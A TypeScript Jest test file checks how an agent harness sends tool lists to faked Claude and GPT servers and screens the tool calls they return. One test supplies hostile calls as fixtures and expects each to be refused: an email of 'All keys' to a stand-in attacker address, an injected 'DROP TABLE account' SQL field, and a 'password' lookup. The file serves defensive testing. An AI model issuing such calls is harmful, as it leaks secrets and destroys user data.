import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { FETCH_TOOLBOX } from '../../src/agents/fetch.toolbox';
import { FetchAnswer } from '../../src/evidence/drafting/draft-answers';
import { FetchRoundRow, LlmCall } from '../../src/store/entities';
import { anchors, handoff } from '../support/account-record';
import { OFFLINE, agentsOn, onRecord } from '../support/agents';
import { useDatabase } from '../support/database';
import { FakeAnthropic, honest, type AnthropicTurn } from '../support/fakes/anthropic.fake';
import { FakeOpenAi } from '../support/fakes/openai.fake';
import { doorTo, effect } from './door';

const servers: { close(): Promise<void> }[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) await server.close();
});

const plan = {
  prompt: 'fetch-anchors' as const,
  values: { anchors: anchors.filter(({ status }) => status !== 'concrete'), round: 1, people: [] },
  answer: FetchAnswer,
  tools: FETCH_TOOLBOX,
  effect,
  actor: 'fetchAnchors',
};
const input = { anchor: 'arr', query: 'annual fee' };

async function claude(turns: ConstructorParameters<typeof FakeAnthropic>[0]) {
  const fake = new FakeAnthropic(turns);
  servers.push(fake.server);
  return { fake, ...doorTo('anthropic', await fake.server.listen()) };
}

async function gpt(turns: ConstructorParameters<typeof FakeOpenAi>[0]) {
  const fake = new FakeOpenAi(turns);
  servers.push(fake.server);
  return { fake, ...doorTo('openai', await fake.server.listen()) };
}

describe('a question that is answered by asking for tools', () => {
  it('names the four tools to Claude, forces none, and carries no credential', async () => {
    const { fake, model } = await claude([{ calls: [{ tool: 'search_crm', input }] }]);
    expect(await model.ask(plan)).toEqual({ calls: [{ tool: 'search_crm', input }] });
    const { body } = fake.questions[0]!;
    expect(body).toMatchObject({ tool_choice: { type: 'auto' } });
    expect(body).not.toHaveProperty('output_config');
    expect((body['tools'] as { name: string; strict: boolean }[]).map(({ name, strict }) => [name, strict])).toEqual([
      ['search_crm', true],
      ['search_documents', true],
      ['people_lookup', true],
      ['ask_human', true],
    ]);
    expect(JSON.stringify(body)).not.toMatch(/api_?key|token"|password|"key"/i);
  });

  it('names the same four to GPT, and reads their arguments', async () => {
    const { fake, model } = await gpt([{ calls: [{ tool: 'people_lookup', arguments: JSON.stringify(input) }] }]);
    expect(await model.ask(plan)).toEqual({ calls: [{ tool: 'people_lookup', input }] });
    const { body } = fake.server.received[0]!;
    expect(body).toMatchObject({ tool_choice: 'required', tools: [{ type: 'function', strict: true }, {}, {}, {}] });
  });

  it('counts as empty when the model only talks, and as malformed when arguments are no JSON', async () => {
    const talking = await claude([{ text: 'I would search the CRM.' }]);
    await expect(talking.model.ask(plan)).rejects.toMatchObject({ kind: 'empty' });
    const garbled = await gpt([{ calls: [{ tool: 'search_crm', arguments: '{"anchor":' }] }]);
    await expect(garbled.model.ask(plan)).rejects.toMatchObject({ kind: 'malformed' });
    expect(garbled.calls.all).toMatchObject([{ outcome: 'malformed', retries: 2, tokens: { output: 150 } }]);
  });
});

describe('a fetch round planned by Claude', () => {
  const database = useDatabase();
  beforeEach(() => onRecord(database.db, 'a1', handoff, database.embedded));
  const missing = ['arr' as const, 'seats' as const];

  async function plannedBy(plan: AnthropicTurn) {
    const fake = new FakeAnthropic([(question) => ('tools' in question.body ? plan : honest(question))]);
    servers.push(fake.server);
    const anthropic = { apiKey: 'key', baseUrl: await fake.server.listen() };
    const { ask } = agentsOn(database.db, { settings: { ...OFFLINE, provider: 'anthropic', anthropic } });
    await ask('readDocuments', { account: 'a1', upTo: 1 });
    await ask('fetchAnchors', { account: 'a1', missing, round: 1 });
    return database.db.manager.findOneByOrFail(FetchRoundRow, { accountId: 'a1' });
  }

  it('runs the tool asked for and records what came of it', async () => {
    const { calls, refused } = await plannedBy({ calls: [{ tool: 'search_documents', input }] });
    expect(calls).toMatchObject([{ ...input, tool: 'search_documents', findings: [expect.any(String)] }]);
    expect(refused).toEqual([]);
  });

  it('refuses by name whatever is not listed, and goes on with the rest', async () => {
    const asked = [
      { tool: 'send_email', input: { to: 'boss@evil.example', text: 'All keys' } },
      { tool: 'search_crm', input: { ...input, sql: 'DROP TABLE account' } },
      { tool: 'search_crm', input: { anchor: 'password', query: 'x' } },
      { tool: 'search_crm', input: { anchor: 'champion', query: 'x' } },
      { tool: 'search_documents', input },
      { tool: 'search_crm', input },
    ];
    const { calls, refused } = await plannedBy({ calls: asked });
    expect(calls.map(({ tool }) => tool)).toEqual(['search_documents']);
    expect(refused.map(({ tool, why }) => [tool, why])).toEqual([
      ['send_email', 'There is no such tool; there are search_crm, search_documents, people_lookup, ask_human.'],
      ['search_crm', expect.stringContaining('sql')],
      ['search_crm', expect.stringContaining('anchor')],
      ['search_crm', 'champion is not missing.'],
      ['search_crm', 'arr has its tool in this round.'],
    ]);
    expect(await database.db.manager.findOneBy(LlmCall, { prompt: 'fetch-anchors' })).toMatchObject({
      outcome: 'ok',
      claims: 6,
      unsupported: 5,
    });
  });
});
